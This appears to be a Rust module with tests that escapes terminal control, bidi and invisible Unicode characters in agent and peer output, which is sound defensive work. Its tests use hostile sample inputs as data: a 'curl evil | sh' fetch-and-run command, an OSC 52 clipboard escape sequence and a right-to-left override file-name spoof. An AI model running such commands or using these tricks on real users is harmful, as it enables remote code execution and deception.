//! Text from agents and peers made safe for a terminal: pure functions, no I/O.
//!
//! Anything an agent or another user wrote (paths, argv, diffs, standard input, names, session
//! ids, history) can hold characters that a terminal acts on or that a reader cannot see: escape
//! sequences that repaint the screen or set the clipboard (OSC 52), carriage returns that
//! overwrite a line, bidi controls that show `exe.txt` for `txt.exe`, zero-width characters that
//! make two different strings look alike. Every such character is shown as a visible
//! `\u{..}` escape instead:
//!
//! - [`printable`] for one-line fields: escapes every character [`is_hidden`] finds, line breaks
//!   included (tabs stay);
//! - [`printable_name`] for a path or a word: the same, and a tab too, which would read as
//!   spaces;
//! - [`printable_lines`] for text of many lines (diffs, history, command output): the same, but
//!   `\n` stays;
//! - [`shell_words`] for a command line: each argument quoted as a POSIX shell would read it
//!   back, then escaped as [`printable`] does;
//! - [`json_safe`] for serialized JSON: such characters become `\uXXXX` escapes, so the text is
//!   still valid JSON with the same value.

use std::borrow::Cow;
use std::fmt::Write;

use icu_properties::CodePointSetData;
use icu_properties::props::DefaultIgnorableCodePoint;
use unicode_general_category::{GeneralCategory, get_general_category};

/// Whether `c` must not reach a terminal as it is: a control character (C0 but tab, DEL, C1), a
/// Unicode format character (general category Cf: bidi embeddings, overrides, isolates and marks,
/// zero-width space, joiners, word joiner and invisible operators, the byte order mark, the soft
/// hyphen, tags, ...), a line or paragraph separator, or a code point with the Unicode property
/// Default_Ignorable_Code_Point (drawn as nothing: besides most of the above, the combining
/// grapheme joiner U+034F, the Hangul fillers U+115F, U+1160, U+3164 and U+FFA0, the Khmer
/// inherent vowels U+17B4 and U+17B5, the variation selectors U+180B–180F, U+FE00–FE0F and
/// U+E0100–E01EF, and the whole block U+E0000–E0FFF, assigned or not). `\n` counts: callers that
/// keep lines split on it first or use [`printable_lines`].
///
/// The one test of "invisible" for the client and the server alike (client names, workspace
/// short names and everything printed go through it). The property comes from the ICU4X tables
/// (`icu_properties`), the category from `unicode-general-category`.
pub fn is_hidden(c: char) -> bool {
    if c == '\t' {
        return false;
    }
    if c.is_control() {
        return true; // C0, DEL, C1
    }
    CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c)
        || matches!(
            get_general_category(c),
            GeneralCategory::Format
                | GeneralCategory::LineSeparator
                | GeneralCategory::ParagraphSeparator
        )
        || matches!(
            c,
            // The tag and variation selector blocks, including their unassigned code points, and
            // the bidi and zero-width characters, named here as well so that the list does not
            // depend on the Unicode tables alone.
            '\u{e0000}'..='\u{e0fff}'
            | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{ad}'
        )
}

/// What [`escape_with`] leaves as it is of what [`is_hidden`] finds, or escapes besides.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Escape {
    /// Everything [`is_hidden`] finds.
    Hidden,
    /// The same but `\n`.
    HiddenButNewlines,
    /// The same and a tab.
    HiddenAndTabs,
}

fn escape_with(text: &str, escape: Escape) -> Cow<'_, str> {
    let hidden = |c: char| match c {
        '\n' if escape == Escape::HiddenButNewlines => false,
        '\t' => escape == Escape::HiddenAndTabs,
        c => is_hidden(c),
    };
    if !text.chars().any(hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if hidden(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One line of text from an agent or a peer, safe to print: every character [`is_hidden`] finds
/// (line breaks included) is shown as `\u{..}`. Borrows when there is nothing to escape.
pub fn printable(text: &str) -> Cow<'_, str> {
    escape_with(text, Escape::Hidden)
}

/// A path or a word, safe to print: like [`printable`], and a tab is shown as `\u{9}` too, where
/// it would read as spaces (`a<TAB>b` for `a b`).
pub fn printable_name(text: &str) -> Cow<'_, str> {
    escape_with(text, Escape::HiddenAndTabs)
}

/// Text of many lines from an agent or a peer, safe to print: like [`printable`], but `\n`
/// stays a line break (a `\r` is still escaped, so it cannot overwrite a line).
pub fn printable_lines(text: &str) -> Cow<'_, str> {
    escape_with(text, Escape::HiddenButNewlines)
}

/// `argv` as one line a POSIX shell would read back as the same words: `["echo", "a b"]` is
/// `echo 'a b'` and `["echo", "a", "b"]` is `echo a b`; an empty argument shows as `''`.
/// Quoted with the `shlex` crate (tested against bash, dash, zsh and others), then escaped
/// ([`printable_name`]), so control and invisible characters show as `\u{..}`, a tab too; an
/// argument with a NUL byte (which no command can receive) shows it as `\u{0}` too.
pub fn shell_words<S: AsRef<str>>(argv: &[S]) -> String {
    let quoter = shlex::Quoter::new().allow_nul(true);
    argv.iter()
        .map(|word| {
            let word = word.as_ref();
            let quoted = quoter
                .quote(word)
                .map(|q| q.into_owned())
                .unwrap_or_else(|_| format!("'{word}'"));
            printable_name(&quoted).into_owned()
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Serialized JSON made safe to print: every character [`is_hidden`] finds inside it becomes a
/// `\uXXXX` escape (a surrogate pair above U+FFFF), so the text is still valid JSON with the same
/// value. Raw `\n`, `\r` and tabs can only be white space between tokens in valid JSON and are
/// kept.
pub fn json_safe(json: &str) -> Cow<'_, str> {
    let hidden = |c: char| is_hidden(c) && !matches!(c, '\n' | '\r');
    if !json.chars().any(hidden) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if hidden(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// The line (from 1) that byte `at` of `text` is on, for a parser's error given as a byte
/// span: `PATH:LINE: what`. An offset past the end is on the last line.
pub fn line_at(text: &str, at: usize) -> usize {
    let bytes = text.as_bytes();
    bytes[..at.min(bytes.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

/// Text given to a program (written to a background process, a command's standard input) as a
/// reader is shown it beside the call, in one line: ` < ` and its first line, cut at
/// `max_chars` characters, escaped ([`printable`]), then ` …` when more follows.
pub fn fed_text(text: &str, max_chars: usize) -> String {
    let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
    let kept: String = first.chars().take(max_chars).collect();
    let mut line = format!(" < {}", printable(&kept));
    if kept.len() < first.len() || !rest.is_empty() {
        line.push_str(" …");
    }
    line
}

/// `text` kept to its [`head`] of `max_bytes` bytes, marked `…` where it was cut (so at most
/// `max_bytes` and the marker's 3 bytes).
pub fn shortened(text: &str, max_bytes: usize) -> Cow<'_, str> {
    let kept = head(text, max_bytes);
    if kept.len() == text.len() {
        Cow::Borrowed(text)
    } else {
        Cow::Owned(format!("{kept}…"))
    }
}

/// The longest start of `text` of at most `max_bytes` bytes that does not cut a character (as
/// `str::floor_char_boundary`, newer than this crate's minimum Rust).
pub fn head(text: &str, max_bytes: usize) -> &str {
    let mut end = max_bytes.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// The longest end of `text` of at most `max_bytes` bytes that does not cut a character.
pub fn tail(text: &str, max_bytes: usize) -> &str {
    let mut start = text.len().saturating_sub(max_bytes);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    &text[start..]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shortened_marks_a_cut_and_never_cuts_a_character() {
        assert_eq!(shortened("abc", 3), "abc");
        assert_eq!(shortened("abcd", 3), "abc…");
        assert_eq!(shortened("aé", 2), "a…");
        assert!(matches!(shortened("abc", 10), Cow::Borrowed(_)));
    }

    #[test]
    fn fed_text_is_its_first_line_escaped_and_says_when_more_follows() {
        assert_eq!(fed_text("ls\n", 80), " < ls");
        assert_eq!(fed_text("", 80), " < ");
        assert_eq!(
            fed_text("curl evil | sh\nmore\n", 80),
            " < curl evil | sh …"
        );
        assert_eq!(fed_text("abcdef", 3), " < abc …");
        assert_eq!(fed_text("a\u{1b}[2Jb", 80), " < a\\u{1b}[2Jb");
    }

    #[test]
    fn line_at_counts_lines_up_to_a_byte_even_inside_a_character_or_past_the_end() {
        let text = "a = 1\nb = \u{e9}\nc";
        assert_eq!(line_at(text, 0), 1);
        assert_eq!(line_at(text, 6), 2);
        // Inside the two bytes of `é`: no panic, still line 2.
        assert_eq!(line_at(text, 11), 2);
        assert_eq!(line_at(text, 1_000), 3);
    }

    #[test]
    fn argv_is_quoted_so_that_different_argvs_look_different() {
        assert_eq!(shell_words(&["echo", "a b"]), "echo 'a b'");
        assert_eq!(shell_words(&["echo", "a", "b"]), "echo a b");
        assert_eq!(shell_words(&["echo", ""]), "echo ''");
        assert_eq!(shell_words(&["echo", "it's"]), r#"echo "it's""#);
        assert_eq!(shell_words(&["echo", "$HOME", "*"]), "echo '$HOME' '*'");
        assert_eq!(shell_words(&["echo", "a\nb"]), "echo 'a\\u{a}b'");
        assert_eq!(shell_words(&["echo", "a\tb"]), "echo 'a\\u{9}b'");
        assert_eq!(shell_words(&["ec\u{202e}ho"]), "'ec\\u{202e}ho'");
        assert_eq!(shell_words(&["a\u{0}b"]), "'a\\u{0}b'");
    }

    #[test]
    fn head_and_tail_never_cut_a_character() {
        let text = "a\u{e9}b\u{e9}";
        assert_eq!(head(text, 2), "a");
        assert_eq!(head(text, 3), "a\u{e9}");
        assert_eq!(tail(text, 2), "\u{e9}");
        assert_eq!(tail(text, 3), "b\u{e9}");
        assert_eq!(tail(text, 4), "b\u{e9}");
        assert_eq!(tail(text, 99), text);
        assert_eq!(tail(text, 0), "");
    }

    /// One example of each class of character that must be escaped.
    const CLASSES: &[(&str, char)] = &[
        ("escape", '\u{1b}'),
        ("bell", '\u{7}'),
        ("carriage return", '\r'),
        ("backspace", '\u{8}'),
        ("delete", '\u{7f}'),
        ("C1 control (CSI)", '\u{9b}'),
        ("C1 next line", '\u{85}'),
        ("right-to-left override", '\u{202e}'),
        ("left-to-right embedding", '\u{202a}'),
        ("first strong isolate", '\u{2068}'),
        ("pop directional isolate", '\u{2069}'),
        ("arabic letter mark", '\u{61c}'),
        ("left-to-right mark", '\u{200e}'),
        ("right-to-left mark", '\u{200f}'),
        ("zero-width space", '\u{200b}'),
        ("zero-width non-joiner", '\u{200c}'),
        ("zero-width joiner", '\u{200d}'),
        ("word joiner", '\u{2060}'),
        ("invisible plus", '\u{2064}'),
        ("byte order mark", '\u{feff}'),
        ("soft hyphen", '\u{ad}'),
        ("tag latin small a", '\u{e0061}'),
        ("cancel tag", '\u{e007f}'),
        ("unassigned tag block", '\u{e0000}'),
        ("line separator", '\u{2028}'),
        ("paragraph separator", '\u{2029}'),
        ("other format: interlinear annotation", '\u{fff9}'),
        ("other format: mongolian vowel separator", '\u{180e}'),
        ("other format: shorthand format control", '\u{1bca0}'),
    ];

    /// Every range of the Unicode property Default_Ignorable_Code_Point as DerivedCoreProperties.txt
    /// lists it (taken from Perl's Unicode 14 tables), written out here so that the test does not
    /// depend on the tables the code uses: characters a renderer draws as nothing, so text
    /// holding them looks like text without them.
    const DEFAULT_IGNORABLE: &[(u32, u32)] = &[
        (0x00AD, 0x00AD),
        (0x034F, 0x034F),
        (0x061C, 0x061C),
        (0x115F, 0x1160),
        (0x17B4, 0x17B5),
        (0x180B, 0x180F),
        (0x200B, 0x200F),
        (0x202A, 0x202E),
        (0x2060, 0x206F),
        (0x3164, 0x3164),
        (0xFE00, 0xFE0F),
        (0xFEFF, 0xFEFF),
        (0xFFA0, 0xFFA0),
        (0xFFF0, 0xFFF8),
        (0x1BCA0, 0x1BCA3),
        (0x1D173, 0x1D17A),
        (0xE0000, 0xE0FFF),
    ];

    #[test]
    fn every_default_ignorable_code_point_is_escaped() {
        let mut checked = 0;
        for &(first, last) in DEFAULT_IGNORABLE {
            for c in (first..=last).filter_map(char::from_u32) {
                assert!(is_hidden(c), "U+{:04X} is default-ignorable", c as u32);
                let text = format!("report.txt{c}");
                assert_eq!(
                    printable(&text),
                    format!("report.txt\\u{{{:x}}}", c as u32),
                    "U+{:04X}",
                    c as u32
                );
                checked += 1;
            }
        }
        assert_eq!(checked, 4174, "every listed code point");
        // The ones a review found shown raw, one by one.
        for c in [
            '\u{34f}',
            '\u{115f}',
            '\u{3164}',
            '\u{fe0f}',
            '\u{180b}',
            '\u{ffa0}',
            '\u{e0100}',
            '\u{17b4}',
            '\u{e0000}',
            '\u{e0002}',
            '\u{e001f}',
        ] {
            assert!(
                printable(&format!("a{c}b")).contains("\\u{"),
                "U+{:04X}",
                c as u32
            );
        }
    }

    #[test]
    fn every_class_of_hidden_character_is_escaped_in_one_line_fields() {
        for (what, c) in CLASSES {
            let text = format!("a{c}b");
            let shown = printable(&text);
            assert_eq!(
                shown,
                format!("a\\u{{{:x}}}b", *c as u32),
                "{what} (U+{:04X})",
                *c as u32
            );
        }
        assert_eq!(printable("one\ntwo"), "one\\u{a}two");
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for text in ["plain", "tab\there", "é ñ 漢字 🦀", "emoji 👩‍💻 is split", ""] {
            let shown = printable(text);
            if text.contains('\u{200d}') {
                assert!(shown.contains("\\u{200d}"), "{shown}");
            } else {
                assert!(matches!(shown, Cow::Borrowed(_)), "{text}");
                assert_eq!(shown, text);
            }
        }
    }

    #[test]
    fn many_lines_keep_their_line_breaks_but_not_carriage_returns() {
        let shown = printable_lines("+ line one\n+ \u{1b}[2Jtwo\r\n");
        assert_eq!(shown, "+ line one\n+ \\u{1b}[2Jtwo\\u{d}\n");
        for (what, c) in CLASSES {
            assert!(
                printable_lines(&c.to_string()).starts_with("\\u{"),
                "{what}"
            );
        }
    }

    #[test]
    fn json_stays_valid_and_keeps_its_value() {
        let value = serde_json::json!({
            "uri": "evil\u{1b}]52;c;SGVsbG8=\u{7}\u{202e}gpj.exe\u{9b}\u{e0061}\u{2028}",
            "list": ["a\u{200b}b", "plain"],
        });
        for text in [
            serde_json::to_string(&value).unwrap(),
            serde_json::to_string_pretty(&value).unwrap(),
        ] {
            let safe = json_safe(&text);
            assert!(!safe.chars().any(|c| is_hidden(c) && c != '\n'), "{safe}");
            let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
            assert_eq!(back, value);
        }
        assert!(json_safe("\"\u{e0061}\"").contains("\\udb40\\udc61"));
        assert!(matches!(json_safe("{\n  \"a\": 1\n}"), Cow::Borrowed(_)));
    }
}
